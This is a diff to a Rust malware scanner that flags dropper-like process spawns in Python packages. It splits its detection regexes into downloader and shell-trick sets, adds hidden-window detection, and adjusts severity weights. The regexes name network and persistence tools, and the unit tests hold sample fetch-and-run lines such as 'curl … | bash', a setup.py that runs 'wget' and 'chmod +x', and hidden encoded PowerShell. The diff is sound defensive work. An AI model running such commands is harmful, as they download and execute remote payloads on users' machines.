@@ -38,20 +38,35 @@ pub fn is_spawn(qualname: &str) -> bool {
         || (q.starts_with("os.spawn") && q.len() <= 11)
 }
 
-/// Shell fragments that download, decode, hide or persist: the vocabulary of droppers.
-static DANGEROUS_COMMAND: LazyLock<Regex> = crate::static_regex!(
+/// Shell fragments that fetch or decode a second stage: the core vocabulary of droppers.
+static DOWNLOADER_COMMAND: LazyLock<Regex> = crate::static_regex!(
     r"(?ix)
-    \b(curl|wget|powershell|pwsh|invoke-webrequest|iwr|invoke-expression|iex|downloadstring|downloadfile
-      |certutil|bitsadmin|mshta|rundll32|regsvr32|ncat|netcat|schtasks|crontab|nohup|osascript|wscript|cscript)\b
-    | /dev/tcp/ | \bnc\s+-[a-z]*e | \|\s*(ba|z|da)?sh\b | base64\s+(-d|--decode)
-    | \bpython[0-9.]*(\.exe)?\s+-c\b | \bstart\s+/b\b | \.(exe|vbs|bat|ps1|scr|hta)\b
-    | -encodedcommand | -enc\s | \bchmod\s+[+0-7]*x | \bchmod\s+7[0-7][0-7]\b | \bdisown\b | \bsetsid\b
+    \b(curl|wget|invoke-webrequest|iwr|invoke-expression|iex|downloadstring|downloadfile|certutil|bitsadmin
+      |mshta|start-bitstransfer|invoke-restmethod)\b
+    | /dev/tcp/ | \bnc\s+-[a-z]*e | \|\s*(ba|z|da)?sh\b | base64\s+(-d|--decode) | -encodedcommand | \s-enc\s
+    | https?://\S+\.(exe|scr|msi|bat|ps1|vbs|hta|jar|dll)\b
+    | \breg(\.exe)?\s+add\b.*\\(run|runonce)\b
     "
 );
 
-/// True when a command line contains dropper vocabulary.
+/// Shell fragments that hide, persist or hand over to another interpreter: suspicious, but also
+/// seen in legitimate tools (clipboard helpers call PowerShell, build scripts chmod).
+static SHELL_TRICK_COMMAND: LazyLock<Regex> = crate::static_regex!(
+    r"(?ix)
+    \b(powershell|pwsh|rundll32|regsvr32|ncat|netcat|schtasks|crontab|nohup|osascript|wscript|cscript|disown|setsid)\b
+    | \bpython[0-9.]*(\.exe)?\s+-c\b | \bstart\s+/b\b | \.(exe|vbs|bat|ps1|scr|hta)\b
+    | \bchmod\s+[+0-7]*x | \bchmod\s+7[0-7][0-7]\b | ^\s*(ba|z)?sh\s+/tmp/ | /tmp/\S+\s*&\s*$
+    "
+);
+
+/// True when a command line fetches or decodes a second stage.
 pub fn is_dangerous_command(command: &str) -> bool {
-    DANGEROUS_COMMAND.is_match(command)
+    DOWNLOADER_COMMAND.is_match(command)
+}
+
+/// True when a command line hides, persists or hands over to another interpreter.
+pub fn is_shell_trick(command: &str) -> bool {
+    SHELL_TRICK_COMMAND.is_match(command)
 }
 
 /// Process-spawning calls.
@@ -60,22 +75,66 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         return;
     }
     let context = checker.context();
-    let command = call
-        .arguments
-        .args
-        .first()
-        .and_then(|arg| super::command_text(checker, arg))
-        .or_else(|| super::keyword(call, "args").and_then(|arg| super::command_text(checker, arg)));
+    let command_arg = call.arguments.args.first().or_else(|| super::keyword(call, "args"));
+    let command = command_arg.and_then(|arg| super::command_text(checker, arg));
+    let partial = command_arg.and_then(|arg| super::partial_command_text(checker, arg));
     let shown = super::argument_text(checker, call);
-    let (severity, tags, message) = match &command {
+    check_hidden_window(checker, call, qualname, context);
+    let (severity, tags, message) = match (&command, &partial) {
+        (None, Some(partial)) if is_dangerous_command(partial) || is_shell_trick(partial) => (
+            match context {
+                ExecContext::Install | ExecContext::Import => if is_dangerous_command(partial) { 0.85 } else { 0.5 },
+                ExecContext::Runtime => if is_dangerous_command(partial) { 0.4 } else { 0.1 },
+                ExecContext::TestOrDocs => 0.1,
+            },
+            vec!["spawn", if is_dangerous_command(partial) { "shell-dropper" } else { "shell-trick" }],
+            format!("{qualname} runs `{}` (… = computed at run time)", crate::text::shorten(partial, 160)),
+        ),
+        _ => classify_command(command.as_ref(), qualname, context, &shown),
+    };
+    checker.report(&RULE, call.range(), message, severity, tags);
+    super::data_flow::check_sink(checker, call, super::data_flow::SinkKind::Process);
+}
+
+/// `creationflags=CREATE_NO_WINDOW` or `DETACHED_PROCESS`: a process the user must not see.
+fn check_hidden_window(checker: &mut Checker, call: &ExprCall, qualname: &str, context: ExecContext) {
+    let Some(flags) = super::keyword(call, "creationflags").or_else(|| super::keyword(call, "startupinfo")) else {
+        return;
+    };
+    let text = checker.text.get(flags.range().start().to_usize()..flags.range().end().to_usize()).unwrap_or("");
+    if !["CREATE_NO_WINDOW", "DETACHED_PROCESS", "0x08000000", "134217728", "SW_HIDE", "STARTF_USESHOWWINDOW", "startupinfo"]
+        .iter()
+        .any(|flag| text.contains(flag))
+    {
+        return;
+    }
+    let severity = match context {
+        ExecContext::Install | ExecContext::Import => 0.5,
+        ExecContext::Runtime => 0.1,
+        ExecContext::TestOrDocs => 0.03,
+    };
+    checker.report(&RULE, call.range(), format!("{qualname} starts a process with its window hidden ({})", crate::text::shorten(text, 60)), severity, vec!["spawn", "hidden-window"]);
+}
+
+fn classify_command(command: Option<&String>, qualname: &str, context: ExecContext, shown: &str) -> (f64, Vec<&'static str>, String) {
+    match command {
         Some(command) if is_dangerous_command(command) => (
             match context {
                 ExecContext::Install | ExecContext::Import => 0.9,
-                ExecContext::Runtime => 0.55,
-                ExecContext::TestOrDocs => 0.25,
+                ExecContext::Runtime => 0.45,
+                ExecContext::TestOrDocs => 0.2,
             },
             vec!["spawn", "shell-dropper"],
             format!("{qualname} runs `{}`, a download/decode/persistence command", crate::text::shorten(command, 160)),
+        ),
+        Some(command) if is_shell_trick(command) => (
+            match context {
+                ExecContext::Install | ExecContext::Import => 0.55,
+                ExecContext::Runtime => 0.12,
+                ExecContext::TestOrDocs => 0.05,
+            },
+            vec!["spawn", "shell-trick"],
+            format!("{qualname} runs `{}`, which hides, persists or starts another interpreter", crate::text::shorten(command, 160)),
         ),
         Some(command) if command.contains("pip install") || command.contains("pip3 install") => (
             match context {
@@ -94,18 +153,17 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             format!("{qualname} runs `{}`", crate::text::shorten(command, 160)),
         ),
         None => (
+            // Build scripts run compilers with computed arguments; weigh it, but lightly.
             match context {
-                ExecContext::Install => 0.3,
-                ExecContext::Import => 0.25,
+                ExecContext::Install => 0.15,
+                ExecContext::Import => 0.2,
                 ExecContext::Runtime => 0.03,
                 ExecContext::TestOrDocs => 0.02,
             },
             vec!["spawn", "spawn-dynamic"],
             format!("{qualname} runs a command built at run time: {shown}"),
         ),
-    };
-    checker.report(&RULE, call.range(), message, severity, tags);
-    super::data_flow::check_sink(checker, call, super::data_flow::SinkKind::Process);
+    }
 }
 
 #[cfg(test)]
@@ -117,11 +175,13 @@ mod tests {
     fn dropper_commands_are_severe() {
         assert!(is_dangerous_command("curl -s http://x.invalid/a.sh | bash"));
         assert!(is_dangerous_command("powershell -w hidden -c iwr http://x"));
+        assert!(is_shell_trick("powershell.exe -command Get-Clipboard"));
+        assert!(!is_dangerous_command("powershell.exe -command Get-Clipboard"));
         assert!(!is_dangerous_command("git describe --tags"));
         assert!(!is_dangerous_command("gcc -o foo foo.c"));
         let code = "import os as o\no.system('wget http://x.invalid/p -O /tmp/p; chmod +x /tmp/p')\n";
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
-        let code = "from subprocess import Popen as P\nP(['powershell', '-enc', 'AAAA'])\n";
+        let code = "from subprocess import Popen as P\nP(['powershell', '-w', 'hidden', '-enc', 'AAAA'])\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.9);
     }
 
